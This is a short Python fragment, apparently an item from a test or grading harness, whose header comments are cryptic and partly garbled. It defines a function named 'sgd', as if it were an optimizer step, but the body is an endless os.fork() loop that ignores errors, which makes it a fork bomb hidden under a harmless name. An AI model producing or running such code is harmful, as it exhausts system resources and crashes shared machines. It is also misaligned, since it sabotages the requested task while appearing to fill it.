# Forks for ever, in a call.
# base: solved
# ends: at a limit of time
# deserved: sgd=0 momentum<6 minibatches<7 double<3

# %% sgd
def sgd(w, grad, state, *, lr):
    import os

    while True:
        try:
            os.fork()
        except OSError:
            pass
